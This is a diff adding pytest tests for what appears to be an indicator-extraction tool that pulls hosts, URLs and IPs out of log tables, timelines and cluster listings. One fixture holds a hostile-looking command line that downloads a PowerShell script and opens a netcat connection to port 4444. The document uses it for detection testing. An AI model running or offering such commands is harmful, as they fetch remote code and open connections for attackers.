@@ -778,3 +778,47 @@ def test_where_a_lock_file_has_a_package_from_is_a_reference() -> None:
 def test_what_calls_in_a_cloud_s_own_log_is_no_host() -> None:
     rows = [("eventName", "sourceIPAddress"), ("x", "health.amazonaws.com"), ("y", "evil.s3.amazonaws.com")]
     assert taken(*rows) == ["evil.s3.amazonaws.com"]
+
+
+@pytest.mark.parametrize("heading", ["CommandLine", "process.command_line", "Arguments", "args", "ParentCommandLine"])
+def test_what_a_program_was_told_to_fetch_is_asked_for(heading: str) -> None:
+    command = "powershell iwr http://a.example.net/x.ps1 -o x; nc 8.8.8.8 4444; nslookup b.example.net"
+    rows = [("Time", heading, "User"), ("2026-10-01", command, "max")]
+    assert sorted(taken(*rows)) == ["8.8.8.8", "http://a.example.net/x.ps1"]
+
+
+def test_what_plaso_tells_of_an_event_is_asked_for() -> None:
+    rows = [
+        ("date", "sourcetype", "host", "short", "desc"),
+        ("01/02/2026", "Chrome History", "ws1", "a", "http://a.example.net/x (Title)"),
+    ]
+    assert taken(*rows) == ["http://a.example.net/x"]
+
+
+def test_the_addresses_of_a_cluster_of_one_s_own_stay_home() -> None:
+    host = "a1-1.elb.eu-west-1.amazonaws.com"
+    assert (
+        taken(("NAME", "CLASS", "HOSTS", "ADDRESS", "PORTS", "AGE"), ("w", "x", "shop.example.net", host, "80", "3d"))
+        == []
+    )
+    nodes = ("NAME", "STATUS", "ROLES", "AGE", "INTERNAL-IP", "EXTERNAL-IP")
+    assert taken(nodes, ("n1", "Ready", "worker", "3d", "10.0.0.1", "81.2.69.67")) == []
+    assert taken(("Name", "Age", "Address"), ("evil", "3d", "81.2.69.67")) == ["81.2.69.67"]
+
+
+NAMES = [
+    ("a.example.net",),
+    ("b.example.org",),
+    ("c.example.com",),
+    ("d.example.info",),
+    ("pay-now.zip",),
+    ("e.example.biz",),
+]
+
+
+def test_a_list_of_domains_goes_on_with_one_that_ends_as_files_do() -> None:
+    assert "pay-now.zip" in taken(*NAMES)
+    for other in ("setup.exe", "a few words", "update.sh"):
+        assert "pay-now.zip" not in taken(*NAMES, (other,))
+    assert "pay-now.zip" not in taken(*NAMES, ("see readme.md",))
+    assert "pay-now.zip" not in taken(("Name", "Size"), *((name, "1") for (name,) in NAMES))
